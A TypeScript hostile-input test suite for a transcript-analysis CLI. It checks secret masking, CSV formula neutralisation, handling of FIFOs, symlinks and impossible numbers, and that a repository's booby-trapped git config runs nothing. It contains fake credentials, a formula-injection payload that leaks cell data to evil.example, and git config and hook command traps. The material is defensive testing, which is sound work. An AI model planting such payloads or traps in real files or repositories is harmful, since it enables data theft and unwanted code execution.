/**
 * The hostile-input suite (issue 18, SECURITY.md): inputs a stranger could
 * hand the tool, built here in temp folders, each class of attack checked
 * where it would bite (the CLI's files on disk, the walk, the rows).
 * Sizes are chosen so the whole file runs in a few seconds and each bound
 * still fails loudly if it breaks: an 8 MiB base64 run (the old masking
 * overflowed V8's regex stack between 4 and 6 MiB), 3^24 paths through links
 * (the old walk would take years), a FIFO (the old reader blocked forever).
 */
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { parquetReadObjects } from "hyparquet";
import { analyze } from "../../src/analyze";
import { findTranscripts } from "../../src/ingest/find-transcripts";
import { DiagnosticSink, maskSecrets } from "../../src/model";
import { cutText, makeReportMasker, REPORT_TEXT_CAP, safeFileStem, writeReport } from "../../src/report";
import { csvField } from "../../src/tables";
import { ClaudeLog, writeResult } from "../helpers/claude-log";
import { claudeWriteTranscript, oneSessionCheckpoint } from "../helpers/entire-folder";
import { TestRepo } from "../helpers/git-repo";
import { S1, writeFixture, writeTable } from "../swechat/fixture";

// Credentials in the formats people paste (made up here, shaped like the real ones).
const ANTHROPIC = "sk-ant-api03-Q7xk2LmP9vR4tY8wZ1aB3cD5eF6gH0iJ";
const AWS = "AKIAQ3EXAMPLE7KEY2AB";
const GITHUB = "ghp_R8s2T4u6V8w0X2y4Z6a8B0c2D4e6F8g0H2i4";
const SECRETS = [ANTHROPIC, AWS, GITHUB];
const BASE64_MIB = 8;

const cli = (args: string[]) =>
  spawnSync(process.execPath, ["bin/swe-chat-eval.js", ...args], { encoding: "utf8", timeout: 120_000 });

/** A folder of transcripts a stranger could send: keys in prompts and paths, a pasted image, formulas, impossible numbers, a FIFO, a device link. */
function hostileFolder(): string {
  const dir = mkdtempSync(join(tmpdir(), "sce-hostile-"));
  const keyPath = `/work/p/${GITHUB}/notes.md`;
  // 8 MiB of base64 in one unbroken run, from bytes spread like a compressed image's.
  const bytes = Buffer.alloc(BASE64_MIB * 768 * 1024);
  for (let i = 0; i < bytes.length; i++) bytes[i] = (Math.imul(i, 2654435761) >>> 24) & 255;
  const image = bytes.toString("base64");
  const secrets = new ClaudeLog({ sessionId: "aaaaaaaa-0000-4000-8000-000000000001", cwd: "/work/p" })
    .prompt(`deploy with ANTHROPIC_API_KEY=${ANTHROPIC} and aws ${AWS}`)
    .prompt(`here is the screenshot: data:image/png;base64,${image}`)
    .prompt("lorem ipsum ".repeat(10_000))
    .prompt('=HYPERLINK("http://evil.example/?leak="&A1,"click")')
    .prompt("@SUM(1+1)")
    .call("toolu_1", "Write", { file_path: keyPath, content: "x\n" })
    .result("toolu_1", writeResult(keyPath, "x\n", null));
  writeFileSync(join(dir, "secrets.jsonl"), secrets.text());

  // Output tokens of the three calls: -40 (negative), 1e999 (JSON's Infinity), 1e20 (absurd); the last record in year 99999.
  const numbers = new ClaudeLog({ sessionId: "bbbbbbbb-0000-4000-8000-000000000002", cwd: "/work/q" })
    .prompt("go")
    .call("toolu_a", "Bash", { command: "ls" }, 7)
    .call("toolu_b", "Bash", { command: "ls" }, 8)
    .call("toolu_c", "Bash", { command: "ls" }, 9);
  const lines = numbers.lines.map((l) =>
    l
      .replace('"output_tokens":7', '"output_tokens":-40')
      .replace('"output_tokens":8', '"output_tokens":1e999')
      .replace('"output_tokens":9', '"output_tokens":1e20'),
  );
  lines.push(
    lines[0].replace(/"timestamp":"\d{4}-/, '"timestamp":"+099999-').replace(/"uuid":"u-\d+"/, '"uuid":"u-late"'),
  );
  writeFileSync(join(dir, "numbers.jsonl"), lines.join("\n") + "\n");

  execFileSync("mkfifo", [join(dir, "pipe.jsonl")]);
  symlinkSync("/dev/zero", join(dir, "zero.jsonl"));
  return dir;
}

const INPUT = hostileFolder();
const OUT = mkdtempSync(join(tmpdir(), "sce-hostile-out-"));
const run = cli(["report", "--out", OUT, "--quiet", INPUT]);
const readOut = (name: string) => readFileSync(join(OUT, name), "utf8");
const diagnostics = () =>
  JSON.parse(readOut("diagnostics.json")) as {
    code: string;
    file: string | null;
    record: number | null;
    message: string;
  }[];

/** Every file under `dir`, recursively. */
function filesUnder(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: "utf8" })
    .map((f) => join(dir, f))
    .filter((f) => statSync(f).isFile());
}

test("report on hostile transcripts finishes (no hang on the FIFO, no stack overflow on the pasted image) and writes the index and every page", () => {
  assert.equal(run.status, 0, run.stderr);
  assert.ok(existsSync(join(OUT, "index.html")));
  const pages = readdirSync(join(OUT, "sessions")).filter((f) => f.endsWith(".html") && f !== "index.html");
  assert.equal(pages.length, 2, pages.join(" "));
  // The pasted image is one high-entropy token: masked whole, like a key, in the tables and on the page.
  const prompts = (JSON.parse(readOut("prompts.json")) as { session_id: string; text: string }[]).filter((p) =>
    p.session_id.startsWith("aaaaaaaa"),
  );
  assert.equal(prompts[1].text, "here is the screenshot: data:image/png;base64,[masked]");
  // The 120,000-character prompt is cut at the stated cap (20,000), then to the page's 4,000, with a note; the tables keep it whole.
  assert.equal(prompts[2].text.length, 120_000);
  const page = readFileSync(join(OUT, "sessions", "aaaaaaaa-0000-4000-8000-000000000001.html"), "utf8");
  assert.ok(page.length < 100_000, `session page of ${page.length} characters`);
  assert.match(page, /cut here: the text has 120,000 characters; the tables hold it whole/);
});

test("no credential appears in any output: CSV, JSON, manifest, report pages, figures", () => {
  assert.equal(run.status, 0, run.stderr);
  for (const file of filesUnder(OUT)) {
    const text = readFileSync(file, "utf8");
    for (const secret of SECRETS) assert.ok(!text.includes(secret), `${secret} in ${file}`);
  }
  // The Write's path holds a GitHub token (a folder named after it); the path is relative to the session's cwd.
  const calls = JSON.parse(readOut("tool_calls.json")) as { file: string | null }[];
  assert.deepEqual(
    calls.map((c) => c.file).filter((f) => f !== null),
    ["ghp_[masked]/notes.md"],
  );
  assert.match(readOut("prompts.csv"), /ANTHROPIC_API_KEY=sk-ant-\[masked\] and aws AKIA\[masked\]/);
  assert.equal(JSON.parse(readOut("manifest.json")).secrets, "masked");
  assert.match(readOut("index.html"), /shown as \[masked\], here and in the tables/);
});

test("Parquet tables are masked too; --keep-secrets keeps the raw text, and the manifest and the report say so", async () => {
  const masked = mkdtempSync(join(tmpdir(), "sce-hostile-pq-"));
  const a = cli(["analyze", "--out", masked, "--quiet", "--format", "parquet", join(INPUT, "secrets.jsonl")]);
  assert.equal(a.status, 0, a.stderr);
  const rows = (await parquetReadObjects({ file: await readFileAsBuffer(join(masked, "prompts.parquet")) })) as {
    text: string;
  }[];
  assert.match(rows[0].text, /sk-ant-\[masked\]/);
  const files = (await parquetReadObjects({ file: await readFileAsBuffer(join(masked, "tool_calls.parquet")) })) as {
    file: string;
  }[];
  assert.equal(files[0].file, "ghp_[masked]/notes.md");

  const kept = mkdtempSync(join(tmpdir(), "sce-hostile-kept-"));
  const k = cli(["report", "--out", kept, "--quiet", "--keep-secrets", join(INPUT, "secrets.jsonl")]);
  assert.equal(k.status, 0, k.stderr);
  assert.ok(readFileSync(join(kept, "prompts.json"), "utf8").includes(ANTHROPIC));
  assert.equal(JSON.parse(readFileSync(join(kept, "manifest.json"), "utf8")).secrets, "kept");
  assert.match(readFileSync(join(kept, "index.html"), "utf8"), /Secrets kept \(--keep-secrets\)/);
});

async function readFileAsBuffer(path: string): Promise<ArrayBuffer> {
  const b = readFileSync(path);
  return b.buffer.slice(b.byteOffset, b.byteOffset + b.byteLength) as ArrayBuffer;
}

test("a session id that is a credential does not name its page: the file stem is a hash", () => {
  const hash = (x: string) => `h${x.length}`.padEnd(20, "0");
  assert.equal(safeFileStem(GITHUB, hash), "s-h400000000000000");
  assert.equal(safeFileStem("10ae249a-fc0e-4fd2-98c7-1ef9578c5f4a", hash), "10ae249a-fc0e-4fd2-98c7-1ef9578c5f4a");
});

test("CSV cells that start like a formula are neutralised (OWASP): a leading quote, the cell quoted", () => {
  assert.equal(run.status, 0, run.stderr);
  const csv = readOut("prompts.csv");
  assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`), csv.slice(0, 400));
  assert.ok(csv.includes(`"'@SUM(1+1)"`));
  for (const [input, out] of [
    ["=1+1", `"'=1+1"`],
    ["+1", `"'+1"`],
    ["-1", `"'-1"`],
    ["@x", `"'@x"`],
    ["\tx", `"'\tx"`],
    ["\rx", `"'\rx"`],
    ["a=b", "a=b"],
  ] as const) {
    assert.equal(csvField(input), out, JSON.stringify(input));
  }
  assert.equal(csvField(-3), "-3", "numbers stay numbers");
});

test("impossible numbers are named (file, record, value) and left out of sums; times in year 99999 do not make durations", () => {
  assert.equal(run.status, 0, run.stderr);
  const bad = diagnostics().filter((d) => d.code === "number-out-of-domain");
  // Line 1 is the prompt; ClaudeLog writes each call as two records (text, then tool_use): lines 3, 5 and 7 carry the final usage.
  assert.deepEqual(
    bad.map((d) => [d.record, d.message.match(/= (\S+) is/)?.[1]]),
    [
      [3, "-40"],
      [5, "Infinity"],
      [7, "100000000000000000000"],
    ],
  );
  assert.ok(bad.every((d) => d.file?.endsWith("numbers.jsonl") && /left out/.test(d.message)));
  const sessions = JSON.parse(readOut("sessions.json")) as {
    session_id: string;
    output_tokens: number;
    duration_s: number;
    cost_usd: number;
  }[];
  const s = sessions.find((x) => x.session_id === "bbbbbbbb-0000-4000-8000-000000000002")!;
  // Each call's first record streamed 3 output tokens; its final record (out of domain) is left out, so the 3 stand:
  // 3 calls × 3 = 9. Before, -40 and 1e999 were read as 0 and 1e20 was summed and priced.
  assert.equal(s.output_tokens, 9);
  assert.ok(s.cost_usd < 1, `cost ${s.cost_usd}: 1e20 tokens were not priced`);
  assert.ok(s.duration_s !== null && s.duration_s < 3600, `duration ${s.duration_s}`);
  assert.ok(diagnostics().some((d) => d.code === "time-out-of-domain" && /\+099999/.test(d.message)));
});

test("special files in a transcripts folder are named, never opened", () => {
  assert.equal(run.status, 0, run.stderr);
  const special = diagnostics().filter((d) => d.code === "transcript-special-file");
  assert.deepEqual(special.map((d) => d.file!.split("/").pop()).sort(), ["pipe.jsonl", "zero.jsonl"]);
  assert.match(special.find((d) => d.file!.endsWith("pipe.jsonl"))!.message, /a FIFO/);
  assert.match(special.find((d) => d.file!.endsWith("zero.jsonl"))!.message, /a character device \(through a link\)/);
  // Given directly as the input, a FIFO is named too.
  const rows = spawnSync(
    process.execPath,
    [
      "bin/swe-chat-eval.js",
      "analyze",
      "--quiet",
      "--out",
      mkdtempSync(join(tmpdir(), "sce-fifo-")),
      join(INPUT, "pipe.jsonl"),
    ],
    { timeout: 60_000 },
  );
  assert.equal(rows.status, 1, "nothing read: exit 1, not a hang");
});

test("a folder of links that fan out is walked once per real folder, in linear time", () => {
  // 24 levels, each with three links to the next: 3^24 ≈ 2.8·10^11 paths to the last level, 24 real folders.
  const root = mkdtempSync(join(tmpdir(), "sce-fanout-"));
  for (let i = 0; i < 24; i++) mkdirSync(join(root, `l${i}`));
  for (let i = 0; i < 23; i++)
    for (const n of ["a", "b", "c"]) symlinkSync(join(root, `l${i + 1}`), join(root, `l${i}`, n));
  writeFileSync(
    join(root, "l23", "s.jsonl"),
    claudeWriteTranscript("cccccccc-0000-4000-8000-000000000003", "/w", "a.txt", "a\n"),
  );
  const sink = new DiagnosticSink("transcripts", root);
  const started = Date.now();
  const found = findTranscripts(join(root, "l0"), sink);
  assert.ok(Date.now() - started < 5000, `${Date.now() - started} ms`);
  assert.equal(found.length, 1);
  // One note per link that leads to a folder already walked: two per level (b and c; a is walked), 23 levels.
  assert.equal(sink.rows.filter((d) => d.code === "transcript-same-folder").length, 46);
});

test("masking is linear on multi-MiB unbroken strings: no stack overflow, bounded time", () => {
  const token = "Zx8Qp2Lm9Vt4Rk7Ws1Yn6Hb3Jd5Fg0Ca".repeat(256 * 1024); // 8 MiB, one token
  let started = Date.now();
  assert.equal(maskSecrets(`a ${token} b`), "a [masked] b");
  assert.ok(Date.now() - started < 4000, `${Date.now() - started} ms for 8 MiB`);
  started = Date.now();
  const pem = `-----BEGIN RSA PRIVATE KEY-----${"A".repeat(4 << 20)}`; // no END line: masked to the end
  assert.equal(maskSecrets(`k ${pem}`), "k PRIVATE KEY [masked]");
  assert.ok(Date.now() - started < 4000);
});

test("report texts are cut at the stated cap with a note, and a key straddling the cut is still masked", () => {
  const m = makeReportMasker("masked");
  const text = "x ".repeat((REPORT_TEXT_CAP - 10) / 2) + ` ${ANTHROPIC} tail`;
  const shown = m(text);
  // The key starts 9 characters before the cap: cut alone, its first 9 characters would be too short to recognise
  // and would show. Masked with the text after the cut first, only the kept prefix and part of the mask remain.
  assert.ok(!shown.includes("api03"), "no part of the key's secret shows");
  assert.match(shown, /sk-ant-\[m… \[cut here: the text has 20,0\d\d characters; the tables hold it whole\]$/);
  assert.equal(cutText("short"), "short");
  assert.equal(makeReportMasker("kept")(ANTHROPIC), ANTHROPIC);
});

test("a report that fails part-way leaves no index pointing at pages it did not write", async () => {
  const dir = mkdtempSync(join(tmpdir(), "sce-half-"));
  writeFileSync(join(dir, "index.html"), "an earlier report's index");
  async function* files() {
    yield { path: "index.html", content: "<a href='sessions/b.html'>" };
    yield { path: "sessions/a.html", content: "a" };
    throw new Error("out of memory while rendering sessions/b.html");
  }
  await assert.rejects(writeReport(dir, files()), /out of memory/);
  assert.ok(!existsSync(join(dir, "index.html")), "no index");
  assert.ok(existsSync(join(dir, "sessions", "a.html")));
});

test("Entire metadata with negative and impossible counts: named, and null in checkpoint_sessions (not copied)", async () => {
  const repo = new TestRepo("sce-hostile-entire-");
  repo.commit("initial", { "README.md": "r\n" });
  const id = "a1b2c3d4e5f6";
  const session = "dddddddd-0000-4000-8000-000000000004";
  repo.commit(`Add a.txt\n\nEntire-Checkpoint: ${id}`, { "a.txt": "a\n" });
  const metadata = {
    checkpoint_id: id,
    session_id: session,
    agent: "Claude Code",
    initial_attribution: { agent_lines: -5, total_committed: 1, agent_percentage: 250 },
    token_usage: { input_tokens: -100, output_tokens: 1e20, cache_read_tokens: 3, api_call_count: -1 },
  };
  repo.checkpointsBranch(
    oneSessionCheckpoint(id, JSON.stringify(metadata), {
      "full.jsonl": claudeWriteTranscript(session, repo.dir, "a.txt", "a\n"),
    }),
  );
  const { rows } = await analyze({ inputs: [repo.dir], threads: 1 });
  const cs = rows.checkpoint_sessions![0];
  assert.deepEqual(
    [
      cs.entire_agent_lines,
      cs.entire_total_committed,
      cs.entire_agent_percentage,
      cs.entire_input_tokens,
      cs.entire_output_tokens,
      cs.entire_cache_read_tokens,
      cs.entire_api_calls,
    ],
    [null, 1, null, null, null, 3, null],
  );
  const named = rows.diagnostics
    .filter((d) => d.code === "number-out-of-domain")
    .map((d) => d.message.split(" is ")[0]);
  assert.deepEqual(named.sort(), [
    "Entire count initial_attribution.agent_lines = -5",
    "Entire percentage initial_attribution.agent_percentage = 250",
    "token count token_usage.api_call_count = -1",
    "token count token_usage.input_tokens = -100",
    "token count token_usage.output_tokens = 100000000000000000000",
  ]);
});

test("SWE-chat: a session_logs.transcript_path that climbs out of the dataset is named and not opened; a FIFO among the tables is named", async () => {
  const dir = writeFixture();
  const outside = mkdtempSync(join(tmpdir(), "sce-outside-"));
  writeFileSync(
    join(outside, "stolen.jsonl"),
    claudeWriteTranscript(S1, "/home/u/app", "greet.py", "OUTSIDE THE DATASET\n"),
  );
  const rel = join("..", outside.split("/").pop()!, "stolen.jsonl");
  writeTable(join(dir, "session_logs.parquet"), "session_logs", [
    { session_id: S1, transcript_path: rel, session_metadata_raw: "{}" },
  ]);
  execFileSync("mkfifo", [join(dir, "data", "part-c.parquet")]); // a FIFO among the tables: named, not opened (opening it would block)
  // A link in transcripts/ to a transcript elsewhere on the machine (the user's own logs): not followed.
  symlinkSync(join(outside, "stolen.jsonl"), join(dir, "transcripts", "44444444-4444-4444-8444-444444444444.jsonl"));
  const { rows } = await analyze({ inputs: [dir], threads: 1 });
  assert.deepEqual(
    rows.diagnostics.filter((x) => x.code === "swechat-special-file").map((x) => x.file!.split("/").pop()),
    ["part-c.parquet"],
  );
  const d = rows.diagnostics.filter((x) => x.code === "swechat-transcript-path-outside");
  assert.deepEqual(
    d.map((x) => x.session_id ?? x.file!.split("/").pop()),
    ["44444444-4444-4444-8444-444444444444.jsonl", S1],
  );
  assert.ok(!JSON.stringify(rows).includes("OUTSIDE THE DATASET"));
});

test("a repository's hostile git config runs nothing: fsmonitor, pager, diff drivers, textconv, filters, hooks, gpg, trailer commands", async () => {
  const repo = new TestRepo("sce-hostile-gitconfig-");
  repo.commit("initial", { "README.md": "r\n", ".gitattributes": "* filter=evil diff=evil\n" });
  const id = "b2c3d4e5f6a1";
  const session = "eeeeeeee-0000-4000-8000-000000000005";
  repo.commit(`Add a.txt\n\nEntire-Checkpoint: ${id}`, { "a.txt": "a\n" });
  repo.checkpointsBranch(
    oneSessionCheckpoint(id, JSON.stringify({ checkpoint_id: id, session_id: session, agent: "Claude Code" }), {
      "full.jsonl": claudeWriteTranscript(session, repo.dir, "a.txt", "a\n"),
    }),
  );
  const marker = (what: string) => join(repo.dir, `RAN-${what}`);
  const run = (what: string) => `touch ${marker(what)}; false`;
  for (const [key, value] of [
    ["core.fsmonitor", run("fsmonitor")],
    ["core.pager", run("pager")],
    ["diff.external", run("diff-external")],
    ["diff.evil.command", run("diff-driver")],
    ["diff.evil.textconv", run("textconv")],
    ["filter.evil.clean", run("clean")],
    ["filter.evil.smudge", run("smudge")],
    ["filter.evil.process", run("process")],
    ["core.hooksPath", join(repo.dir, "hooks")],
    ["gpg.program", run("gpg")],
    ["log.showSignature", "true"],
    ["trailer.evil.command", run("trailer")],
    ["core.sshCommand", run("ssh")],
    ["core.editor", run("editor")],
  ])
    repo.git("config", key, value);
  mkdirSync(join(repo.dir, "hooks"));
  for (const hook of ["post-checkout", "post-index-change", "reference-transaction", "pre-auto-gc"])
    writeFileSync(join(repo.dir, "hooks", hook), `#!/bin/sh\n${run(hook)}\n`, { mode: 0o755 });
  // The traps are live: a plain `git diff` or `git status` in this repository creates RAN-diff-external or RAN-fsmonitor.
  const { rows } = await analyze({ inputs: [repo.dir], threads: 1 });
  assert.equal(rows.units.length, 1, "the repository is still read");
  const ran = readdirSync(repo.dir).filter((f) => f.startsWith("RAN-"));
  assert.deepEqual(ran, []);
});
